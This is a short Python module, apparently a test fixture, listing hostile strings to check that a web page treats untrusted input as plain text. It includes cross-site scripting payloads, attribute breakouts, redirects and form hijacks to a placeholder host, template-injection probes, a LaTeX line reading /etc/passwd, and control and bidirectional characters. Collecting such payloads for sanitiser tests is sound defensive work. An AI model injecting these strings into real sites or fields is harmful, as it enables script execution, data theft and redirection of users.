"""Texts that would run, load, break out or disguise themselves, if a page took them for anything but text."""

from __future__ import annotations

FLAG = "window.hacked=1"
ELSEWHERE = "http://elsewhere.invalid/x"

ATTACKS = (
    f"<script>{FLAG}</script>",
    f"</title></style></script></textarea></p></article><script>{FLAG}</script>",
    f"<img src=x onerror={FLAG}>",
    f"<svg onload={FLAG}><animate onbegin={FLAG} attributeName=x></svg>",
    f'"><img src="{ELSEWHERE}.png" onerror="{FLAG}">',
    f"' autofocus onfocus='{FLAG}' x='",
    f'" onmouseover="{FLAG}" style="position:fixed;inset:0;z-index:9999" x="',
    f"<iframe srcdoc='<script>parent.{FLAG[7:]}</script>'></iframe>",
    f'<a href="javascript:{FLAG}">click</a> [click](javascript:{FLAG})',
    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    f'<base href="{ELSEWHERE}"><link rel="stylesheet" href="{ELSEWHERE}.css"><link rel="prefetch" href="{ELSEWHERE}">',
    f'<style>@import url("{ELSEWHERE}.css"); body{{display:none}}</style>',
    f'<form action="{ELSEWHERE}"><button formaction="{ELSEWHERE}">x</button></form>',
    f'<object data="{ELSEWHERE}"></object><embed src="{ELSEWHERE}"><video src="{ELSEWHERE}" autoplay></video>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={FLAG}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={FLAG}>">',
    "<!-- <plaintext> <template> <xmp> ]]> --!>",
    "{{ 7 * 7 }} {% for x in y %} {{ config.__class__ }} {# #}",
    f"&lt;script&gt;{FLAG}&lt;/script&gt; &#x3c;script&#x3e; \\u003cscript\\u003e",
    "nul \x00 escape \x1b[2J bell \x07 c1 \x9b del \x7f",
    "right to left \u202e txet eht snrut \u202d \u2066 and isolates",
    "z" + "\u0336\u0301\u0489" * 60 + "algo",
    "W" * 3000,
    f"+ADw-script+AD4-{FLAG}+ADw-/script+AD4-",
    f"`${{{FLAG}}}` $x^2$ \\input{{/etc/passwd}}",
)

EVERYTHING = " ".join(ATTACKS)
